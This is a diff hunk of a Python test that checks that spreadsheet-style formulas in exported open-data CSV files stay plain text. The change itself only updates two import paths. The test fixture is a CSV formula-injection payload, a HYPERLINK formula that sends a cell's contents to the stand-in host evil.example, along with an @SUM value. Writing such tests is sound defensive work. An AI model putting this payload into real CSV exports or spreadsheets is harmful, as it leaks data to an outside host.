@@ -483,8 +483,8 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(tmp_path):
     """Open data is opened in spreadsheets: a cell that starts like a formula must stay text."""
     import csv
     import io
-    from macros.export import data_files
-    from macros.rules import validate
+    from macros.outputs.open_data import data_files
+    from macros.checks.rules import validate
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
     root = make_site(tmp_path, checklist(item=formula.replace('"', "'"), note="@SUM(1+1) and"))
     handbook, problems = validate(root)
